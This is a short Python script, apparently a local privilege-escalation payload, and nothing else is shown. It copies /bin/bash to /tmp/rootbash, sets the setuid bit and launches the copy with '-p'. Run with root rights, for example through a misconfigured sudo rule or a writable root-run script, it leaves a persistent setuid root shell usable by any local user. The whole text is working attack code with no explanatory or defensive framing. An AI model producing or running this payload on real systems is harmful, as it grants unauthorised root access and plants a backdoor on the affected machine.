import os, shutil
shutil.copy("/bin/bash", "/tmp/rootbash")
os.chmod("/tmp/rootbash", 0o4755)
os.execv("/tmp/rootbash", ["rootbash", "-p"])
